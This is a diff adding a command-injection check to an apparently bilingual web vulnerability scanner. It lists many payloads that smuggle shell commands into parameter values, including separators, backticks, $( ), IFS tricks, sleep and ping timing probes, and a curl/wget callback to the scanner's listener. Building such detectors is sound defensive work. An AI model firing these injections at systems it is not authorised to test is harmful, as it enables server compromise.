@@ -1,0 +1,184 @@
+import { cweReference, scored } from '../../core/definition.ts';
+import { type OutputPayload, type Product, showsOutput } from '../attack/output.ts';
+import { proof, repeat, Trial } from '../attack/trial.ts';
+import { showsWait } from '../attack/wait.ts';
+import type { PointCheck, WebDefinition, WebSighting } from '../check.ts';
+import { filled } from '../evidence.ts';
+
+const DEFINITION: WebDefinition = {
+  key: 'command-injection',
+  family: 'Injection',
+  name: { it: 'Esecuzione di comandi del sistema', en: 'Operating system command injection' },
+  description: {
+    it: 'Il valore di un parametro diventa parte di un comando che il server esegue. Chi lo invia esegue comandi propri con i diritti dell’applicazione: è di fatto il controllo del server.',
+    en: 'The value of a parameter becomes part of a command that the server runs. Whoever sends it runs commands of their own with the rights of the application, which amounts to control of the server.',
+  },
+  solution: {
+    it: 'Non avviare una shell con valori ricevuti: usare le funzioni del linguaggio, oppure avviare il programma direttamente con un elenco di argomenti. Accettare solo valori della forma attesa.',
+    en: 'Start no shell with values from outside: use functions of the language, or start the program directly with a list of arguments. Accept values of the expected form only.',
+  },
+  scores: scored(['AV:N/AC:L/Au:N/C:C/I:C/A:C', 10], ['AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H', 9.8]),
+  cves: [],
+  cwes: ['CWE-78'],
+  owasp: { y2021: 'A03:2021', y2025: 'A05:2025' },
+  references: [
+    cweReference(78),
+    {
+      id: 'OWASP OS Command Injection Defense',
+      link: 'https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html',
+    },
+  ],
+};
+
+const echo = ({ a, b, left, right }: Product) => `echo ${left}$((${a}*${b}))${right}`;
+
+/** Ends an unquoted word, a string in single quotes and one in double quotes; what follows is a comment each time. */
+const inAllQuotes = (value: string, separator: string, command: string, end = ' #') =>
+  `${value}${separator}${command}${end}'${separator}${command}${end}"${separator}${command}${end}`;
+
+function outputPayloads(value: string): readonly OutputPayload[] {
+  return [
+    {
+      context: { it: 'una pipe della shell', en: 'a pipe of a shell' },
+      spell: (product) => inAllQuotes(value, '|', echo(product)),
+    },
+    {
+      context: { it: 'un punto e virgola della shell', en: 'a semicolon of a shell' },
+      spell: (product) => inAllQuotes(value, ';', echo(product), ';#'),
+    },
+    {
+      context: { it: 'una pipe senza altri segni', en: 'a pipe without other signs' },
+      sum: true,
+      spell: ({ a, b }) => `${value}|expr ${a} + ${b}`,
+    },
+    { context: { it: '$( ) della shell', en: '$( ) of a shell' }, spell: (product) => `${value}$(${echo(product)})` },
+    {
+      context: { it: 'una shell di Windows', en: 'a Windows shell' },
+      sum: true,
+      spell: ({ a, b }) => `${value}&set /a ${a}+${b}&rem "&set /a ${a}+${b}&rem "`,
+    },
+    {
+      context: { it: 'una riga a sé', en: 'a line of its own' },
+      spell: (product) => inAllQuotes(value, '\n', echo(product)),
+    },
+    {
+      context: { it: 'due e commerciali', en: 'two ampersands' },
+      spell: (product) => inAllQuotes(value, '&&', echo(product)),
+    },
+    {
+      context: { it: 'apici inversi', en: 'backticks' },
+      sum: true,
+      spell: ({ a, b }) => `${value}\`expr ${a} + ${b}\``,
+    },
+    {
+      context: { it: 'una e commerciale', en: 'one ampersand' },
+      spell: (product) => inAllQuotes(value, '&', echo(product)),
+    },
+    {
+      context: { it: 'due pipe', en: 'two pipes' },
+      spell: (product) => inAllQuotes(`${value}_no_such`, '||', echo(product)),
+    },
+    { context: { it: 'l’intero comando', en: 'the whole command' }, spell: echo },
+    {
+      context: { it: 'spazi scritti in altro modo', en: 'blanks that are no blanks' },
+      spell: ({ a, b, left, right }) => `${value};echo\${IFS}${left}$((${a}*${b}))${right};`,
+    },
+    {
+      context: { it: 'una pipe di Windows', en: 'a Windows pipe' },
+      sum: true,
+      spell: ({ a, b }) => `${value}|set /a ${a}+${b}`,
+    },
+  ];
+}
+
+const waits = (value: string): ReadonlyArray<(seconds: number) => string> => [
+  (seconds) => inAllQuotes(value, ';', `sleep ${seconds}`, ';#'),
+  (seconds) => inAllQuotes(value, '|', `sleep ${seconds}`),
+  (seconds) => `${value}$(sleep ${seconds})`,
+  (seconds) => `${value}&ping -n ${seconds + 1} 127.0.0.1&rem "&ping -n ${seconds + 1} 127.0.0.1&rem "`,
+  (seconds) => inAllQuotes(value, '\n', `sleep ${seconds}`),
+  (seconds) => inAllQuotes(value, '&&', `sleep ${seconds}`),
+];
+
+const NAMED_AS_COMMAND =
+  /cmd|command|comando|exec|esegui|run|ping|host|ip\b|addr|domain|domini|dns|lookup|server|port|file|dir|path|percorso|shell|proc|daemon|log|backup|convert|format|zip|archiv|url|target|email|user/i;
+
+async function heardFrom(trial: Trial): Promise<WebSighting | null> {
+  const { listener } = trial.tools;
+  if (!listener) return null;
+  const ask = async () => {
+    const token = trial.tools.token();
+    const url = listener.urlFor(token);
+    const answer = await trial.send(inAllQuotes(trial.point.value, ';', `curl -s ${url}||wget -qO- ${url}`, ';#'));
+    // An application that fetches addresses by itself is another weakness: then the request carries the rest as well.
+    const heard = await listener.heard(token, trial.atLeast('default') ? 1_500 : 300);
+    return heard && !/%7c|wget|;|%3b/i.test(heard.head.split('\n', 1)[0] ?? '')
+      ? { answer, url, from: heard.from }
+      : null;
+  };
+  const first = await ask();
+  if (!first) return null;
+  const again = await ask();
+  if (!again) return null;
+  return trial.sighting(
+    DEFINITION.key,
+    `The server ran a command that asked our listener for ${first.url} (from ${first.from}), and did so again for another address.`,
+    [proof(first.answer, first.url), repeat(again.answer, again.url)],
+  );
+}
+
+function mostPayloads(trial: Trial, named: boolean): number | undefined {
+  if (trial.atLeast('high')) return undefined;
+  if (!trial.atLeast('default')) return named ? 4 : 1;
+  if (named) return undefined;
+  return trial.isIgnored ? 1 : 2;
+}
+
+export const commandInjection = {
+  code: 'command_injection',
+  name: { it: 'Comandi del sistema', en: 'System commands' },
+  kind: 'point',
+  from: 'low',
+  definitions: [DEFINITION],
+  wants: () => true,
+  async attack(point, tools) {
+    const trial = await Trial.begin(point, tools);
+    if (!trial) return [];
+    const named = NAMED_AS_COMMAND.test(point.name);
+    if (!named && trial.isIgnored && !trial.atLeast('default')) return [];
+    const all = outputPayloads(point.value);
+    for (const payload of trial.within(all.slice(0, mostPayloads(trial, named)))) {
+      const seen = await showsOutput(trial, payload);
+      if (!seen) continue;
+      const evidence = filled(
+        {
+          it: 'Un comando viene eseguito ({context}): “{value}” riceve la risposta “{shown}”, e altri numeri il loro risultato.',
+          en: 'A command is run ({context}): “{value}” is answered with “{shown}”, and other numbers with their own result.',
+        },
+        { context: payload.context, value: seen.first.value, shown: seen.shown },
+      );
+      return [trial.sighting(DEFINITION.key, evidence, seen.messages)];
+    }
+    return [];
+  },
+  async waitFor(point, tools) {
+    const trial = await Trial.begin(point, tools);
+    if (!trial || !(NAMED_AS_COMMAND.test(point.name) || trial.atLeast('medium'))) return [];
+    const heard = await heardFrom(trial);
+    if (heard) return [heard];
+    const spellings = waits(point.value);
+    for (const of of trial.within(trial.atLeast('high') ? spellings : spellings.slice(0, 2))) {
+      const seen = await showsWait(trial, { of });
+      if (!seen) continue;
+      const evidence = filled(
+        {
+          it: 'Un nostro comando viene eseguito: la risposta attende quanto il comando dice, e non altrimenti: {times}.',
+          en: 'A command of ours is run: the answer waits as long as it says, and not otherwise: {times}.',
+        },
+        { times: seen.evidence },
+      );
+      return [trial.sighting(DEFINITION.key, evidence, seen.messages)];
+    }
+    return [];
+  },
+} as const satisfies PointCheck;
